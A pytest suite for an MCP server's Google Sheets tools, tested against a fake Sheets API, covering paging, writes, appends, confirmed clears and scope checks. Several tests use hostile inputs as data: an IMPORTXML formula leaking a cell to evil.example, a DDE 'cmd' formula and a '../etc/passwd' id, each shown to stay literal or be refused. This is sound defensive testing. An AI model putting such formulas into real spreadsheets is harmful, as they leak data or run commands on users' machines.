"""The sheets tools over the real MCP client, against the fake Google Sheets API (validated requests)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import mcp_types as types
import pytest

from mcp_tools.servers.google import scopes
from tests.harness import connect, failure, ok, text_of
from tests.servers.fake_google import FakeGoogle, FakeSheets
from tests.servers.fake_google.sheets import Formula
from tests.servers.google_accounts_fixtures import stored_token
from tests.servers.sheets.fixtures import sheets_settings

pytestmark = pytest.mark.anyio
TABLE = [["Name", "Amount", "Paid"], ["Ann", 12.5, True], ["Bob", 7, False]]


def values_calls(google: FakeGoogle, method: str) -> int:
    return google.calls.count(f"sheets.spreadsheets.values.{method}")


# --- read --------------------------------------------------------------------------------------


async def test_read_gives_the_used_range_of_the_first_sheet_formatted_with_every_sheet_name(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE, "Notes": [["hello"]]})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        result = await client.call_tool("sheets_read", {"id": book.id})
    data = ok(result)
    assert data["title"] == "Budget" and data["sheets"] == ["Data", "Notes"]
    assert data["range"] == "Data!A1:C3" and data["next_offset"] is None
    assert values_calls(google, "get") == 2  # a window, then one look to the end of the grid
    assert data["values"] == [["Name", "Amount", "Paid"], ["Ann", "12.5", "TRUE"], ["Bob", "7", "FALSE"]]
    assert "<<<untrusted spreadsheet cells" in text_of(result)


async def test_a_spreadsheet_url_works_as_the_id(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    url = f"https://docs.google.com/spreadsheets/d/{book.id}/edit#gid=0"
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        data = ok(await client.call_tool("sheets_read", {"id": url, "range": "Data!A2:A3"}))
    assert data["values"] == [["Ann"], ["Bob"]]


@pytest.mark.parametrize(
    ("range_", "expected_range", "expected"),
    [
        ("'It''s'!A1:B2", "'It''s'!A1:B2", [["x", "y"], ["z"]]),
        ("It's", "'It''s'!A1:B2", [["x", "y"], ["z"]]),
        ("'Q3 Budget'!B:B", "'Q3 Budget'!B1:B2", [["b"], ["d"]]),
        ("Q3 Budget!2:2", "'Q3 Budget'!A2:B2", [["c", "d"]]),
        ("'Q3 Budget'", "'Q3 Budget'!A1:B2", [["a", "b"], ["c", "d"]]),
    ],
)
async def test_quoted_sheet_names_whole_columns_and_rows(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets, range_: str, expected_range: str, expected: list
):
    book = sheets.add("Odd names", {"It's": [["x", "y"], ["z"]], "Q3 Budget": [["a", "b"], ["c", "d"]]})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        data = ok(await client.call_tool("sheets_read", {"id": book.id, "range": range_}))
    assert data["range"] == expected_range and data["values"] == expected


async def test_read_keeps_short_gaps_and_pages_over_long_ones(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    rows: list[list[Any]] = [["a", 1], [], ["b", 2]] + [[]] * 40 + [["far", 3]]
    book = sheets.add("Gaps", {"Data": rows})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        first = ok(await client.call_tool("sheets_read", {"id": book.id}))
        second = ok(await client.call_tool("sheets_read", {"id": book.id, "offset": first["next_offset"]}))
    assert first["values"] == [["a", "1"], [], ["b", "2"]] and first["range"] == "Data!A1:B3"
    assert first["next_offset"] == 43
    assert second["values"] == [["far", "3"]] and second["range"] == "Data!A44:B44"
    assert second["next_offset"] is None


async def test_formulas_read_as_formulas_only_when_asked(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Sums", {"Data": [[2, 3, Formula("=2+3")]]})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        shown = ok(await client.call_tool("sheets_read", {"id": book.id}))
        formulas = ok(await client.call_tool("sheets_read", {"id": book.id, "formulas": True}))
    assert shown["values"] == [["2", "3", "5"]]
    assert formulas["values"] == [[2, 3, "=2+3"]]


async def test_ten_thousand_rows_read_completely_by_paging(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    rows = [[f"r{number}", number, f"note {number % 7}"] for number in range(1, 10_001)]
    book = sheets.add("Log", {"Log": rows}, rows=10_000)
    seen: list[list[Any]] = []
    pages = 0
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        offset: int | None = 0
        while offset is not None:
            page = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "Log", "offset": offset}))
            assert sum(len(row) for row in page["values"]) <= 2000  # the default cap per answer
            first_row = int(page["range"].split("!A")[1].split(":")[0])
            assert first_row == (offset + 1)  # the page starts where the offset said
            seen.extend(page["values"])
            offset, pages = page["next_offset"], pages + 1
    assert [row[0] for row in seen] == [f"r{number}" for number in range(1, 10_001)]  # every row once, in order
    assert seen[-1] == ["r10000", "10000", "note 4"]
    assert 15 <= pages <= 20
    assert google.calls.count("sheets.spreadsheets.get") == 1  # the sheet list is reused between pages


async def test_reads_see_rows_our_own_append_added_and_a_grid_changed_elsewhere(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE}, rows=3)
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        before = ok(await client.call_tool("sheets_read", {"id": book.id}))
        ok(await client.call_tool("sheets_append", {"id": book.id, "values": [["Cy", 1, True]]}))
        after = ok(await client.call_tool("sheets_read", {"id": book.id}))
        book.sheet("Data").rows = 2  # type: ignore[union-attr]  # someone deletes rows in the browser
        shrunk = failure(await client.call_tool("sheets_read", {"id": book.id, "range": "Data!A1:C4"}))
    assert before["range"] == "Data!A1:C3" and after["range"] == "Data!A1:C4"
    assert after["values"][-1] == ["Cy", "1", "TRUE"]
    assert shrunk["kind"] == "invalid_arguments" and "Max rows: 2," in shrunk["message"]  # asked afresh
    assert google.calls.count("sheets.spreadsheets.get") == 3


async def test_a_smaller_page_cap_gives_more_pages(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Log", {"Log": [[n, n] for n in range(500)]}, columns=100)
    wide_book = sheets.add("Wide", {"Wide": [[1] * 200]})
    async with connect(tmp_path, sheets_settings(tmp_path, google, max_read_cells=100)) as client:
        page = ok(await client.call_tool("sheets_read", {"id": book.id}))
        wide = failure(await client.call_tool("sheets_read", {"id": wide_book.id, "range": "A1:DA2"}))
    assert len(page["values"]) == 50 and page["next_offset"] == 50
    assert wide["kind"] == "too_large" and "105 columns" in wide["message"]


async def test_long_cells_end_a_page_by_characters(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Essays", {"Data": [[f"{n}:" + "x" * 5000] for n in range(30)]})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        first = ok(await client.call_tool("sheets_read", {"id": book.id}))
        rest = ok(await client.call_tool("sheets_read", {"id": book.id, "offset": first["next_offset"]}))
    assert len(first["values"]) == 4 and first["next_offset"] == 4  # about 25,000 characters
    assert rest["values"][0][0].startswith("4:") and rest["next_offset"] == 8


async def test_an_offset_past_the_end_is_an_error_naming_it(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Small", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool("sheets_read", {"id": book.id, "range": "A1:C3", "offset": 5}))
        empty = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "Data!E5:F6"}))
    assert error["kind"] == "invalid_arguments" and "offset 5" in error["message"]
    assert empty["values"] == [] and empty["next_offset"] is None


# --- write and formula injection -------------------------------------------------------------


INJECTION = '=IMPORTXML("https://evil.example/?leak="&A1, "//a")'


async def test_write_is_literal_so_formula_injection_stays_text(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        written = ok(
            await client.call_tool(
                "sheets_write", {"id": book.id, "range": "Data!D1", "values": [[INJECTION, "'kept", 3.5, None]]}
            )
        )
        back = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "Data!D1:G1", "formulas": True}))
        shown = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "Data!D1:G1"}))
    assert written == {"range": "Data!D1:G1", "cells": 4}
    assert sheets.cell(book, "Data", "D1") == INJECTION  # a string, not a Formula
    assert back["values"] == [["'" + INJECTION, "'kept", 3.5]]  # FORMULA render: text, no formula
    assert shown["values"] == [[INJECTION, "'kept", "3.5"]]


async def test_formulas_asked_for_but_not_allowed_are_refused_before_any_request(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        arguments = {"id": book.id, "range": "Data!D1", "values": [["=1+1"]], "formulas": True}
        write_error = failure(await client.call_tool("sheets_write", arguments))
        append_error = failure(await client.call_tool("sheets_append", {**arguments, "range": "Data"}))
    for error in (write_error, append_error):
        assert error["kind"] == "denied_by_policy" and "allow_formulas" in error["message"]
    assert values_calls(google, "update") == 0 and values_calls(google, "append") == 0
    assert sheets.cell(book, "Data", "D1") is None


async def test_formulas_evaluate_only_when_the_call_and_the_config_both_ask(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google, allow_formulas=True)) as client:
        ok(await client.call_tool("sheets_write", {"id": book.id, "range": "E1", "values": [["=1+1"]]}))
        ok(
            await client.call_tool(
                "sheets_write", {"id": book.id, "range": "F1", "values": [["=1+1"]], "formulas": True}
            )
        )
        shown = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "E1:F1"}))
    assert sheets.cell(book, "Data", "E1") == "=1+1"
    assert sheets.cell(book, "Data", "F1") == Formula("=1+1")
    assert shown["values"] == [["=1+1", "2"]]


async def test_values_that_do_not_fit_the_range_are_refused_before_asking_google(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google, max_write_cells=4)) as client:
        misfit = failure(
            await client.call_tool("sheets_write", {"id": book.id, "range": "A1:B1", "values": [[1, 2, 3]]})
        )
        too_many = failure(
            await client.call_tool("sheets_write", {"id": book.id, "range": "A1", "values": [[1, 2, 3], [4, 5]]})
        )
        whole = failure(await client.call_tool("sheets_write", {"id": book.id, "range": "Data", "values": [[1]]}))
    assert misfit["kind"] == "invalid_arguments" and "do not fit in A1:B1" in misfit["message"]
    assert too_many["kind"] == "too_large" and "at most 4" in too_many["message"]
    assert whole["kind"] == "invalid_arguments" and "name the cells" in whole["message"]
    assert values_calls(google, "update") == 0


# --- append and create -------------------------------------------------------------------------


async def test_append_adds_rows_after_the_table_and_inserts_them(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    rows: list[list[Any]] = [*TABLE, [], [], ["Total", 19.5]]
    book = sheets.add("Budget", {"Data": rows})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        done = ok(
            await client.call_tool(
                "sheets_append", {"id": book.id, "range": "Data!A1:C3", "values": [["Cy", 1, "=cmd|' /C calc'!A0"]]}
            )
        )
        page = ok(await client.call_tool("sheets_read", {"id": book.id}))
    assert done == {"range": "Data!A4:C4", "cells": 3}
    assert page["values"][3] == ["Cy", "1", "=cmd|' /C calc'!A0"]  # literal text, not a DDE formula
    assert page["values"][-1] == ["Total", "19.5"] and page["range"] == "Data!A1:C7"  # moved down one row


async def test_append_without_a_range_finds_the_table_of_the_first_sheet(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE, "Other": [["x"]]})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        first = ok(await client.call_tool("sheets_append", {"id": book.id, "values": [["Dee", 4, True]]}))
        second = ok(await client.call_tool("sheets_append", {"id": book.id, "range": "Data!A1", "values": [["Eve"]]}))
    assert first == {"range": "Data!A4:C4", "cells": 3} and second == {"range": "Data!A5", "cells": 1}
    assert sheets.cell(book, "Data", "C4") is True


async def test_append_to_an_empty_sheet_starts_at_the_top(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Empty", {"Fresh": []})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        done = ok(await client.call_tool("sheets_append", {"id": book.id, "values": [["a", "b"], ["c", "d"]]}))
    assert done == {"range": "Fresh!A1:B2", "cells": 4}


async def test_create_makes_named_sheets_with_literal_header_rows(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    headers = {"Q3 Budget": ["Item", "=SUM(1,2)"], "It's": [], "Wide": [f"c{n}" for n in range(30)]}
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        made = ok(await client.call_tool("sheets_create", {"title": "Plan", "sheets": headers}))
        first = ok(await client.call_tool("sheets_read", {"id": made["id"], "formulas": True}))
        wide = ok(await client.call_tool("sheets_read", {"id": made["id"], "range": "Wide"}))
        plain = ok(await client.call_tool("sheets_create", {"title": "Blank"}))
        duplicate = failure(await client.call_tool("sheets_create", {"title": "X", "sheets": {"A": [], "a": []}}))
    assert made["title"] == "Plan" and made["sheets"] == ["Q3 Budget", "It's", "Wide"]
    assert made["url"].endswith(f"/d/{made['id']}/edit")
    assert first["values"] == [["Item", "'=SUM(1,2)"]]
    assert wide["values"] == [[f"c{n}" for n in range(30)]] and wide["range"] == "Wide!A1:AD1"
    assert plain["sheets"] == ["Sheet1"]
    assert duplicate["kind"] == "invalid_arguments" and "share a name" in duplicate["message"]


# --- clear -------------------------------------------------------------------------------------


async def test_clear_confirmation_counts_the_cells_that_hold_data(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": [*TABLE, ["", "", ""], ["x"]]})
    seen: list[types.ElicitRequestParams] = []
    async with connect(tmp_path, sheets_settings(tmp_path, google), seen=seen) as client:
        cleared = ok(await client.call_tool("sheets_clear", {"id": book.id, "range": "Data!A2:C10"}))
        left = ok(await client.call_tool("sheets_read", {"id": book.id}))
    [asked] = seen
    assert "Clear Data!A2:C10 in spreadsheet 'Budget': 7 cell(s) hold data" in asked.message
    assert cleared == {"range": "Data!A2:C10", "cells": 7}
    assert left["values"] == [["Name", "Amount", "Paid"]]


async def test_a_declined_clear_clears_nothing(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google), elicit="decline") as client:
        error = failure(await client.call_tool("sheets_clear", {"id": book.id, "range": "Data"}))
    assert error["kind"] == "declined_by_user"
    assert values_calls(google, "clear") == 0 and sheets.cell(book, "Data", "A1") == "Name"


async def test_a_range_that_changes_while_the_person_decides_is_not_cleared(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})

    class ChangedMeanwhile(list):
        def append(self, item: Any) -> None:
            book.sheet("Data").cells[(5, 1)] = "added while the form was open"  # type: ignore[union-attr]
            super().append(item)

    async with connect(tmp_path, sheets_settings(tmp_path, google), seen=ChangedMeanwhile()) as client:
        error = failure(await client.call_tool("sheets_clear", {"id": book.id, "range": "Data"}))
    # the gate looks at the range again after the yes: the person was shown 9 cells, not 10
    assert error["kind"] == "conflict" and "changed while the person was deciding" in error["message"]
    assert "shown: Clear Data in spreadsheet 'Budget': 9 cell(s)" in error["message"]
    assert "now: Clear Data in spreadsheet 'Budget': 10 cell(s) hold data" in error["message"]
    assert values_calls(google, "clear") == 0


async def test_a_blank_range_to_clear_is_invalid_arguments(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool("sheets_clear", {"id": book.id, "range": "  "}))
    assert error["kind"] == "invalid_arguments" and "range" in error["message"] and google.calls == []


async def test_clear_of_an_unknown_sheet_fails_before_asking(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    seen: list[types.ElicitRequestParams] = []
    async with connect(tmp_path, sheets_settings(tmp_path, google), seen=seen) as client:
        error = failure(await client.call_tool("sheets_clear", {"id": book.id, "range": "Nope!A1:B2"}))
    assert error["kind"] == "invalid_arguments" and "no sheet named 'Nope'" in error["message"]
    assert "'Data'" in error["hint"] and seen == []


# --- errors, scopes and access ---------------------------------------------------------------


async def test_an_unknown_spreadsheet_is_not_found_with_a_hint(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool("sheets_read", {"id": "1" + "x" * 43}))
        bad = failure(await client.call_tool("sheets_read", {"id": "../etc/passwd"}))
    assert error["kind"] == "not_found" and "/spreadsheets/d/" in error["hint"]
    assert bad["kind"] == "invalid_arguments" and "not a spreadsheet id" in bad["message"]


async def test_app_access_sees_only_the_apps_spreadsheets_and_read_access_sees_all(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    theirs = sheets.add("Made elsewhere", {"Data": TABLE}, app=False)
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        hidden = failure(await client.call_tool("sheets_read", {"id": theirs.id}))
    granted = [scopes.DRIVE_FILE, scopes.SPREADSHEETS_READONLY]
    async with connect(tmp_path, sheets_settings(tmp_path, google, granted, access="read")) as client:
        seen = ok(await client.call_tool("sheets_read", {"id": theirs.id}))
        refused = failure(await client.call_tool("sheets_write", {"id": theirs.id, "range": "A9", "values": [[1]]}))
    async with connect(tmp_path, sheets_settings(tmp_path, google, access="read")) as client:
        not_yet = failure(await client.call_tool("sheets_read", {"id": theirs.id}))
    assert hidden["kind"] == "not_found" and 'access = "app"' in hidden["hint"]
    # read access on a sign-in that lacks its scope is named before calling, not left to a 404
    assert not_yet["kind"] == "not_configured" and not_yet["missing_scopes"] == ["spreadsheets.readonly"]
    assert "mcp-tools auth google" in not_yet["hint"]
    assert seen["title"] == "Made elsewhere"
    assert refused["kind"] == "denied_by_policy" and 'access = "all"' in refused["hint"]  # writes stay in the app's


def test_access_levels_widen_the_scopes_asked():
    tools = ["sheets.read", "sheets.write", "sheets.append", "sheets.create", "sheets.clear"]
    assert scopes.requested_scopes(tools) == [scopes.DRIVE_FILE]
    assert scopes.requested_scopes(tools, {"sheets": "read"}) == sorted(
        [scopes.DRIVE_FILE, scopes.SPREADSHEETS_READONLY]
    )
    assert scopes.requested_scopes(tools, {"sheets": "all"}) == [scopes.SPREADSHEETS]


async def test_a_missing_scope_names_it_before_calling(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    settings = sheets_settings(tmp_path, google, [scopes.SPREADSHEETS_READONLY], access="read")
    async with connect(tmp_path, settings) as client:
        read = ok(await client.call_tool("sheets_read", {"id": book.id}))
        error = failure(await client.call_tool("sheets_write", {"id": book.id, "range": "A9", "values": [[1]]}))
    assert read["sheets"] == ["Data"]
    assert error["kind"] == "not_configured" and error["missing_scopes"] == ["drive.file"]
    assert "mcp-tools auth google" in error["hint"] and values_calls(google, "update") == 0


async def test_a_403_for_scopes_from_google_is_mapped(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    google.fail("sheets.spreadsheets.values.update", 403, "insufficientPermissions")
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool("sheets_write", {"id": book.id, "range": "A9", "values": [[1]]}))
    assert error["kind"] == "not_configured" and error["missing_scopes"] == ["drive.file"]


async def test_a_429_is_retried(tmp_path: Path, google: FakeGoogle, sheets: FakeSheets):
    book = sheets.add("Budget", {"Data": TABLE})
    google.fail("sheets.spreadsheets.values.get", 429, "rateLimitExceeded", times=2)
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        data = ok(await client.call_tool("sheets_read", {"id": book.id, "range": "A1:C3"}))
    assert data["values"][0] == ["Name", "Amount", "Paid"] and values_calls(google, "get") == 3


async def test_a_429_that_outlasts_the_retries_says_when_to_retry(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})
    google.fail("sheets.spreadsheets.values.append", 429, "rateLimitExceeded", times=1000, retry_after=30)
    settings = sheets_settings(tmp_path, google)
    settings["google"]["retry_seconds"] = 0
    async with connect(tmp_path, settings) as client:
        error = failure(await client.call_tool("sheets_append", {"id": book.id, "values": [[1]]}))
    assert error["kind"] == "upstream_error" and error["retry_after_seconds"] == 30


@pytest.mark.parametrize(
    ("tool", "arguments", "said"),
    [
        ("sheets_read", {"range": "Data!A1:B2000000"}, "Range (Data!A1:B2000000) exceeds grid limits"),
        ("sheets_write", {"range": "Data!A1001", "values": [["x"]]}, "exceeds grid limits. Max rows: 1000"),
        ("sheets_write", {"range": "Data!ZZ1", "values": [["x"]]}, "max columns: 26"),
    ],
)
async def test_ranges_past_the_grid_are_invalid_arguments_with_a_hint(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets, tool: str, arguments: dict, said: str
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool(tool, {"id": book.id, **arguments}))
    assert error["kind"] == "invalid_arguments" and said in error["message"]
    assert "sheets_append" in error["hint"]


async def test_an_unknown_sheet_in_a_write_is_google_unable_to_parse_with_a_hint(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(
            await client.call_tool("sheets_write", {"id": book.id, "range": "'No such'!A1", "values": [[1]]})
        )
    assert error["kind"] == "invalid_arguments" and "Unable to parse range" in error["message"]
    assert "'My Sheet'!A1:B2" in error["hint"]


@pytest.mark.parametrize(
    ("arguments", "field"),
    [
        ({"range": "Sheet1!2:C5", "values": [[1]]}, "range"),
        ({"range": " ", "values": [[1]]}, "range"),
        ({"range": "A1", "values": []}, "values"),
        ({"range": "A1", "values": [[]]}, "values"),
        ({"range": "A1", "values": [["x" * 50_001]]}, "values"),
        ({"range": "A1", "values": [[{"a": 1}]]}, "values"),
    ],
)
async def test_bad_write_arguments_name_the_field(
    tmp_path: Path, google: FakeGoogle, sheets: FakeSheets, arguments: dict, field: str
):
    book = sheets.add("Budget", {"Data": TABLE})
    async with connect(tmp_path, sheets_settings(tmp_path, google)) as client:
        error = failure(await client.call_tool("sheets_write", {"id": book.id, **arguments}))
    assert error["kind"] == "invalid_arguments" and field in error["message"]
    assert google.calls == []


@pytest.mark.parametrize(
    ("access", "expected"),
    [
        ("app", [scopes.DRIVE_FILE]),
        ("read", [scopes.DRIVE_FILE, scopes.SPREADSHEETS_READONLY]),
        ("all", [scopes.SPREADSHEETS]),
    ],
)
def test_auth_google_asks_for_the_scopes_of_the_access_level(
    tmp_path: Path, google: FakeGoogle, access: str, expected: list[str]
):
    import argparse
    import json
    import urllib.request

    from mcp_tools.cli.google import auth_google
    from mcp_tools.core.config import load_config

    client_id, _ = google.add_client()
    secrets_file = tmp_path / "client_secret.json"
    secrets_file.write_text(json.dumps(google.client_secrets(client_id)))
    config_file = tmp_path / "config.toml"
    config_file.write_text(
        f'[server]\nstate_dir = "{tmp_path / "state"}"\ndata_dir = "{tmp_path / "data"}"\nservers = ["sheets"]\n'
        f'[google]\nclient_secrets = "{secrets_file}"\napi_endpoint = "{google.url}"\n'
        f'[sheets]\naccess = "{access}"\n'
    )
    said: list[str] = []

    def browser(url: str) -> None:  # agrees on the consent screen and follows the redirect home
        with urllib.request.urlopen(url, timeout=10) as response:
            response.read()

    code = auth_google(
        load_config(config_file, {}), argparse.Namespace(no_browser=False), open_url=browser, say=said.append
    )
    assert code == 0
    token = stored_token(tmp_path)
    assert token["scopes"] == sorted(expected)
    assert said[0] == "Asking for: " + ", ".join(scopes.short(scope) for scope in sorted(expected))


def test_doctor_says_how_far_the_sheets_tools_reach(
    tmp_path: Path, google: FakeGoogle, capsys: pytest.CaptureFixture[str]
):
    from mcp_tools.cli import main

    settings = sheets_settings(tmp_path, google)
    config = tmp_path / "config.toml"
    config.write_text(
        f'[server]\nstate_dir = "{tmp_path / "state"}"\ndata_dir = "{tmp_path / "data"}"\nservers = ["sheets"]\n'
        f'[google]\nclient_secrets = "{settings["google"]["client_secrets"]}"\n'
        '[sheets]\naccess = "all"\nallow_formulas = true\n'
    )
    assert main(["--config", str(config), "doctor"]) == 0
    out = capsys.readouterr().out
    assert "sheets    on  (1 tool)" in out
    assert (
        'access "all": reads and changes every spreadsheet (spreadsheets); formulas evaluated when a call asks' in out
    )
